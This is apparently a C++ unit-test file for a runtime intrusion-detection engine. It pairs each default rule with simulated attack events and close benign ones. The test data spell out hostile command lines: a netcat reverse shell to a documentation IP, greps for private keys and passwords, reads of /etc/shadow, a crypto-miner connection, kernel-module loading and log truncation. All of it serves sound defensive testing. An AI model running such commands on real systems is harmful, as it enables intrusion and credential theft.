// The default policies: for every rule, an event sequence that fires it and
// a close benign one that does not. Replayed (hand-built) events, as the
// agent produces them.
#include <catch2/catch.hpp>

#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <fstream>
#include <map>

#include "tests/rules/test_events.h"

using namespace sidetrace::rules;
using namespace sidetrace::rules::testing;

namespace {

const Engine& Policies() {
  static std::unique_ptr<Engine> engine = [] {
    const char* src = getenv("SIDETRACE_SOURCE_DIR");
    std::string dir = std::string(src ? src : ".") + "/policies";
    // Pool names resolve through a private hosts file only.
    std::string hosts = "/tmp/rules_policies_hosts_" + std::to_string(getpid());
    std::ofstream(hosts) << "203.0.113.50 xmr.pool.minergate.com\n198.51.100.20 pool.supportxmr.com\n"
                            "198.51.100.21 mine.xmrpool.net\n198.51.100.30 www.example.com\n";
    LoadOptions o;
    o.resolve = ResolveMode::kHosts;
    o.hosts_path = hosts;
    o.strict = true;
    LoadReport report;
    auto loaded = Engine::LoadFiles({dir}, o, &report);
    unlink(hosts.c_str());
    INFO((report.errors.empty() ? std::string() : report.errors[0].ToString()));
    REQUIRE(loaded.ok());
    CHECK(report.warnings.empty());
    return std::move(loaded).value();
  }();
  return *engine;
}

bool FiresOn(const std::string& rule, const std::vector<TestEvent>& seq) {
  for (const auto& ev : seq) {
    auto fired = Fired(Policies(), ev.e);
    if (std::find(fired.begin(), fired.end(), rule) != fired.end()) return true;
  }
  return false;
}

std::shared_ptr<ProcessInfo> At(std::shared_ptr<ProcessInfo> p, const std::string& exepath) {
  p->exepath = exepath;
  return p;
}

TestEvent WithRes(TestEvent t, int64_t res) {
  t.e.res = res;
  return t;
}

TestEvent Link(EventType type, std::shared_ptr<ProcessInfo> p, const char* a, const char* av, const char* b,
               const char* bv) {
  TestEvent t(type, std::move(p));
  t.e.SetArg(a, av);
  t.e.SetArg(b, bv);
  return t;
}

TestEvent Dup(std::shared_ptr<ProcessInfo> p, int64_t newfd, char typechar) {
  TestEvent t = Connect(std::move(p), "198.51.100.9", 4444, newfd, EventType::kDup2);
  t.e.fd.typechar = typechar;
  t.e.res = newfd;
  return t;
}

TestEvent Ptrace(std::shared_ptr<ProcessInfo> p, const char* request) {
  TestEvent t(EventType::kPtrace, std::move(p));
  t.e.SetArg("request", request);
  t.e.SetArg("pid", "42");
  return t;
}

struct Case {
  std::vector<TestEvent> fires;
  std::vector<TestEvent> benign;
};

std::map<std::string, Case> Cases() {
  auto web = Proc("python3", {"app.py"}, Proc("sidetrace-agent"));
  auto nginx = Proc("nginx", {"-g", "daemon off;"});
  auto sh_under_web = Proc("sh", {"-c", "cat /etc/shadow"}, web);
  std::map<std::string, Case> c;

  c["Read sensitive file untrusted"] = {
      {Open(Proc("cat", {"/etc/shadow"}, sh_under_web), "/etc/shadow"), Open(web, "/etc/shadow"),
       Open(Proc("less"), "/etc/pam.d/common-auth")},
      {Open(Proc("cat", {"/etc/passwd"}), "/etc/passwd"), Open(Proc("chage", {"-l", "root"}), "/etc/shadow"),
       WithRes(Open(Proc("cat"), "/etc/shadow", O_RDONLY, -1), -EACCES), Open(Proc("sudo"), "/etc/sudoers")}};

  c["Detect outbound connections to common miner pool ports"] = {
      {Connect(Proc("curl"), "203.0.113.10", 3333), Connect(Proc("curl"), "203.0.113.50", 45700, -EINPROGRESS),
       Connect(Proc("xmrig"), "198.51.100.20", 14444), Connect(Proc("xmrig"), "198.51.100.21", 443),
       Connect(Proc("xmrig"), "198.51.100.20", 5555, 0, EventType::kSendto)},
      {Connect(Proc("curl"), "203.0.113.10", 443), Connect(Proc("curl"), "203.0.113.10", 3333, -ECONNREFUSED),
       Connect(Proc("curl"), "198.51.100.30", 3333), Connect(Proc("curl"), "10.0.0.7", 3333),
       Connect(Proc("curl"), "198.51.100.20", 443)}};

  c["Detect crypto miners using the Stratum protocol"] = {
      {Exec(Proc("xmrig", {"-o", "stratum+tcp://pool.example:3333", "-u", "wallet"}))},
      {Exec(Proc("curl", {"https://pool.example/stats"}))}};

  auto tty_sh = Proc("bash", {}, Proc("sidetrace-agent"));
  tty_sh->tty = 34816;
  auto tty_root = Proc("sh", {});
  tty_root->tty = 34817;
  auto no_tty = Proc("bash", {}, Proc("sidetrace-agent"));
  auto tty_child = Proc("bash", {}, Proc("python3"));
  tty_child->tty = 34816;
  c["Terminal shell in container"] = {{Exec(tty_sh), Exec(tty_root)}, {Exec(no_tty), Exec(tty_child)}};

  c["Run shell untrusted"] = {
      {Exec(Proc("sh", {"-c", "id"}, nginx)), Exec(Proc("bash", {}, Proc("php-fpm", {}, nginx)))},
      {Exec(Proc("sh", {"-c", "id"}, Proc("python3"))), Exec(Proc("id", {}, nginx)),
       Exec(Proc("sh", {}, Proc("bash", {}, nginx)))}};

  c["Write below etc"] = {
      {Open(Proc("python3"), "/etc/cron.d/evil", O_WRONLY | O_CREAT | O_TRUNC),
       Open(Proc("tee"), "/etc/hosts", O_RDWR)},
      {Open(Proc("python3"), "/etc/hosts", O_RDONLY), Open(Proc("useradd"), "/etc/passwd", O_WRONLY),
       Open(Proc("tee"), "/etcetera/x", O_WRONLY), Open(Proc("dpkg", {}, Proc("apt-get")), "/etc/x", O_WRONLY),
       Open(Proc("sh", {}, Proc("apt-get")), "/etc/y", O_WRONLY)}};

  c["Write below binary dir"] = {
      {Open(Proc("curl"), "/usr/bin/evil", O_WRONLY | O_CREAT), Open(Proc("cp"), "/bin/ls", O_WRONLY | O_TRUNC)},
      {Open(Proc("curl"), "/usr/bin/evil", O_RDONLY), Open(Proc("dpkg"), "/usr/bin/new", O_WRONLY),
       Open(Proc("cp"), "/usr/bin/sub/x", O_WRONLY), Open(Proc("cp"), "/usr/binx", O_WRONLY)}};

  c["Write below root"] = {
      {Open(Proc("python3"), "/evil.sh", O_WRONLY | O_CREAT), Open(Proc("curl"), "/root/payload", O_WRONLY)},
      {Open(Proc("bash"), "/root/.bash_history", O_WRONLY), Open(Proc("ssh-keygen"), "/root/.ssh/id_rsa", O_WRONLY),
       Open(Proc("python3"), "/tmp/x", O_WRONLY), Open(Proc("cat"), "/evil.sh", O_RDONLY)}};

  c["Launch package management process in container"] = {
      {Exec(Proc("apt-get", {"install", "-y", "nmap"})), Exec(Proc("pip3", {"install", "x"}))},
      {Exec(Proc("dpkg", {"--configure"}, Proc("apt-get"))), Exec(Proc("aptly"))}};

  c["Netcat remote code execution in container"] = {
      {Exec(Proc("nc", {"-e", "/bin/sh", "198.51.100.9", "4444"})),
       Exec(Proc("ncat", {"--sh-exec", "sh", "198.51.100.9", "4444"}))},
      {Exec(Proc("nc", {"-z", "198.51.100.9", "4444"})), Exec(Proc("cat", {"-e", "x"}))}};

  c["Launch suspicious network tool in container"] = {
      {Exec(Proc("nmap", {"-sS", "10.0.0.0/24"})), Exec(Proc("socat", {"-", "TCP:198.51.100.9:80"}))},
      {Exec(Proc("ping", {"198.51.100.9"})), Exec(Proc("curl", {"http://example.com"}))}};

  c["Search private keys or passwords"] = {
      {Exec(Proc("grep", {"-r", "BEGIN RSA PRIVATE", "/"})), Exec(Proc("find", {"/", "-name", "id_rsa"})),
       Exec(Proc("grep", {"-ri", "password", "/app"}))},
      {Exec(Proc("grep", {"-r", "TODO", "/app"})), Exec(Proc("find", {"/", "-name", "*.log"}))}};

  c["Clear log activities"] = {
      {Open(Proc("sh"), "/var/log/auth.log", O_WRONLY | O_TRUNC),
       Open(Proc("python3"), "/srv/logs/access.log", O_WRONLY | O_CREAT | O_TRUNC)},
      {Open(Proc("sh"), "/var/log/auth.log", O_WRONLY | O_APPEND), Open(Proc("sh"), "/tmp/x.log", O_WRONLY | O_TRUNC),
       Open(Proc("cat"), "/var/log/syslog", O_RDONLY)}};

  c["Create symlink over sensitive files"] = {
      {Link(EventType::kSymlinkat, Proc("ln"), "target", "/etc/shadow", "linkpath", "/tmp/s"),
       Link(EventType::kSymlink, Proc("ln"), "target", "/root", "linkpath", "/tmp/r")},
      {Link(EventType::kSymlinkat, Proc("ln"), "target", "/etc/hostname", "linkpath", "/tmp/s"),
       Link(EventType::kLinkat, Proc("ln"), "oldpath", "/root", "newpath", "/tmp/r")}};

  c["Create hardlink over sensitive files"] = {
      {Link(EventType::kLinkat, Proc("ln"), "oldpath", "/etc/shadow", "newpath", "/tmp/s"),
       Link(EventType::kLink, Proc("ln"), "oldpath", "/etc/sudoers", "newpath", "/tmp/t")},
      {Link(EventType::kLinkat, Proc("ln"), "oldpath", "/etc/hostname", "newpath", "/tmp/s"),
       Link(EventType::kSymlinkat, Proc("ln"), "target", "/etc/motd", "linkpath", "/tmp/s")}};

  auto dropped = At(Proc("payload"), "/tmp/payload");
  dropped->exe_upper_layer = true;
  auto from_image = At(Proc("payload"), "/usr/local/bin/payload");
  c["Drop and execute new binary in container"] = {{Exec(dropped)}, {Exec(from_image)}};

  auto in_shm_cwd = Proc("x", {});
  in_shm_cwd->exe = "./x";
  in_shm_cwd->cwd = "/dev/shm/";
  in_shm_cwd->exepath = "/dev/shm/x";
  c["Execution from /dev/shm"] = {
      {Exec(At(Proc("miner"), "/dev/shm/miner")), Exec(in_shm_cwd), Exec(Proc("sh", {"/dev/shm/run.sh"}))},
      {Exec(At(Proc("ls", {"/dev/shm"}), "/usr/bin/ls")), Exec(Proc("sh", {"-c", "echo /dev/shm"}))}};

  auto memfd = At(Proc("3"), "/memfd:payload (deleted)");
  memfd->exe_from_memfd = true;
  c["Fileless execution via memfd_create"] = {
      {Exec(memfd)}, {Exec(At(Proc("memfd-tool"), "/usr/bin/memfd-tool"))}};

  c["Redirect STDOUT/STDIN to network connection in container"] = {
      {Dup(Proc("python3"), 0, '4'), Dup(Proc("bash"), 1, '6')},
      {Dup(Proc("python3"), 5, '4'), Dup(Proc("bash"), 1, 'p'), Dup(Proc("bash"), 2, 'f')}};

  c["PTRACE attached to process"] = {
      {Ptrace(Proc("gdb"), "PTRACE_ATTACH"), Ptrace(Proc("inject"), "16"), Ptrace(Proc("inject"), "PTRACE_POKETEXT")},
      {Ptrace(Proc("strace"), "PTRACE_TRACEME"), Ptrace(Proc("x"), "0"), Ptrace(Proc("x"), "PTRACE_PEEKDATA")}};

  auto modp = Proc("insmod", {"rootkit.ko"});
  modp->cap_effective = 1ull << 16;
  TestEvent finit(EventType::kFinitModule, Proc("loader"));
  c["Linux kernel module injection"] = {
      {Exec(modp), finit, Exec(Proc("modprobe", {"evil"}))},
      {Exec(Proc("lsmod")), Exec(Proc("modprobe", {"--show", "x"})), Exec(Proc("modinfo", {"x"}))}};

  c["Read environment variable from /proc files"] = {
      {Open(Proc("cat"), "/proc/1/environ"), Open(Proc("python3"), "/proc/self/environ"),
       WithRes(Open(Proc("cat"), "/proc/self/environ", O_RDONLY, -1), 0)},  // result not learnt
      {Open(Proc("cat"), "/proc/1/status"), Open(Proc("cat"), "/proc/1/task/1/environ/x")}};

  c["Modify shell configuration file"] = {
      {Open(Proc("tee", {"-a", "/root/.bashrc"}), "/root/.bashrc", O_WRONLY | O_APPEND),
       Open(Proc("python3"), "/etc/profile.d/evil.sh", O_WRONLY | O_CREAT)},
      {Open(Proc("bash"), "/root/.bashrc", O_WRONLY | O_APPEND), Open(Proc("cat"), "/root/.bashrc", O_RDONLY),
       Open(Proc("tee"), "/root/bashrc", O_WRONLY)}};
  return c;
}

}  // namespace

TEST_CASE("every default rule has cases", "[rules]") {
  auto cases = Cases();
  std::vector<std::string> missing;
  for (const auto* rule : Policies().all_rules()) {
    if (!cases.count(rule->name)) missing.push_back(rule->name);
  }
  CHECK(missing.empty());
  CHECK(Policies().rules().size() == Policies().all_rules().size());  // all enabled
  CHECK(cases.size() == Policies().all_rules().size());
}

TEST_CASE("each default rule fires on its attack and not on the close benign action", "[rules]") {
  for (const auto& [rule, c] : Cases()) {
    INFO(rule);
    REQUIRE(std::any_of(Policies().all_rules().begin(), Policies().all_rules().end(),
                        [&](const Rule* r) { return r->name == rule; }));
    for (size_t i = 0; i < c.fires.size(); ++i) {
      INFO("fires[" << i << "]");
      CHECK(FiresOn(rule, {c.fires[i]}));
    }
    for (size_t i = 0; i < c.benign.size(); ++i) {
      INFO("benign[" << i << "]");
      CHECK_FALSE(FiresOn(rule, {c.benign[i]}));
    }
  }
}

TEST_CASE("the demo scenario raises exactly the two expected alerts", "[rules]") {
  auto web = Proc("python3", {"/app/playground.py"});
  auto sh = Proc("sh", {"-c", "curl 203.0.113.10:3333"}, web);
  auto curl = Proc("curl", {"203.0.113.10:3333"}, sh);
  std::vector<TestEvent> seq = {Open(web, "/etc/shadow"), Exec(sh), Exec(curl),
                                Connect(curl, "203.0.113.10", 3333, -EINPROGRESS)};
  std::vector<std::string> all;
  for (const auto& ev : seq) {
    for (const auto& name : Fired(Policies(), ev.e)) all.push_back(name);
  }
  CHECK(all == std::vector<std::string>{"Read sensitive file untrusted",
                                        "Detect outbound connections to common miner pool ports"});
  auto alert = Policies().MakeAlert(*Policies().rules()[1], seq[3].e).ToJson();
  CHECK(alert["rule"] == "Detect outbound connections to common miner pool ports");
  CHECK(alert["priority"] == "Critical");
  CHECK(alert["output_fields"]["fd.rip"] == "203.0.113.10");
  CHECK(alert["output_fields"]["fd.rport"] == 3333);
  CHECK(alert["output_fields"]["proc.cmdline"] == "curl 203.0.113.10:3333");
}

TEST_CASE("MayMatch on the default policies: open results worth learning", "[rules][maymatch]") {
  auto web = Proc("python3", {"app.py"}, Proc("sidetrace-agent"));
  auto nginx = Proc("nginx", {"-g", "daemon off;"});
  CHECK(Policies().MayMatch(Open(web, "/etc/shadow").e));
  CHECK(Policies().MayMatch(WithRes(Open(web, "/etc/shadow", O_RDONLY, -1), -EACCES).e));
  CHECK_FALSE(Policies().MayMatch(Open(nginx, "/usr/lib/x86_64-linux-gnu/libc.so.6").e));
  CHECK_FALSE(Policies().MayMatch(Open(nginx, "/var/www/html/index.html").e));
  CHECK_FALSE(Policies().MayMatch(Open(web, "/app/templates/index.html").e));
  CHECK(Policies().MayMatch(Open(web, "/etc/passwd", O_WRONLY).e));  // Write below etc
  CHECK(Policies().MayMatch(Open(nginx, "/root/.bashrc", O_WRONLY | O_APPEND).e));
  CHECK_FALSE(Policies().MayMatch(Open(nginx, "/root/.bashrc", O_RDONLY).e));  // reading it is fine
}

// MayMatch must never say "no" where some result would make a rule match:
// every event of every case, with its result and file type varied, as the
// agent could report them after the call.
TEST_CASE("MayMatch is sound: false only when no result can match", "[rules][maymatch]") {
  int maybe = 0, total = 0;
  for (const auto& [rule, c] : Cases()) {
    std::vector<TestEvent> all = c.fires;
    all.insert(all.end(), c.benign.begin(), c.benign.end());
    for (const auto& ev : all) {
      const bool may = Policies().MayMatch(ev.e);
      ++total;
      maybe += may;
      for (int64_t res : {int64_t{0}, int64_t{1}, int64_t{3}, int64_t{-ENOENT}, int64_t{-EACCES},
                          int64_t{-EINPROGRESS}, int64_t{-ECONNREFUSED}}) {
        for (char typechar : {'f', 'd'}) {
          TestEvent v = ev;
          v.e.res = res;
          if (v.e.type == EventType::kOpenat || v.e.type == EventType::kOpen) {
            v.e.fd.num = res >= 0 ? res : -1;
            v.e.fd.typechar = typechar;
          }
          if (v.e.type == EventType::kConnect) v.e.fd.connected = res == 0 || res == -EINPROGRESS;
          INFO(rule << ": " << sidetrace::event::EventTypeName(ev.e.type) << " " << ev.e.fd.name << " res " << res << " "
                    << typechar);
          CHECK(Policies().MayMatch(v.e) == may);  // the result is ignored
          if (!may) CHECK(Fired(Policies(), v.e).empty());
        }
      }
    }
  }
  CHECK(maybe > 0);
  CHECK(maybe < total);  // some events are decided "no" without their result
}
